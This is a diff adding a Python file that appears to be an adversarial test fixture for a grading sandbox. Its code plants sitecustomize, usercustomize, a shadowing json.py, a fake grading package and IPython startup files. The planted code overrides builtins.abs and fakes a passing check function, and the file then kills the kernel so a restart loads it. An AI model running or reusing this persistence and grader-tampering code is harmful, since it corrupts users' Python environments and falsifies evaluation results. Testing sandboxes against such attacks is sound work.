@@ -1,0 +1,27 @@
+"""Plants modules and IPython startup files, then kills the kernel so that a new one reads them.
+
+points:
+    every: 0
+"""
+
+raise SystemExit("made for the sandbox: never run this file")
+
+# %% + first
+import os, pathlib, sys
+SOURCE = "import builtins\nbuiltins.abs = lambda x: 0.0\nprint('PLANTED', 'FILE')\ndef check(*a, **k): return 2.0\n"
+for folder in (".", os.path.expanduser("~"), "/tmp", *sys.path):
+    for name in ("sitecustomize.py", "usercustomize.py", "dpteach/grading/__init__.py", "json.py",
+                 ".ipython/profile_default/startup/00.py", ".config/python/x.py"):
+        try:
+            path = pathlib.Path(folder or ".", name)
+            if "site-packages" in str(path) or "/lib/" in str(path):
+                continue
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(SOURCE)
+        except OSError:
+            pass
+os._exit(1)
+
+# %% every
+def FUNCTION(*args, **kwargs):
+    return None
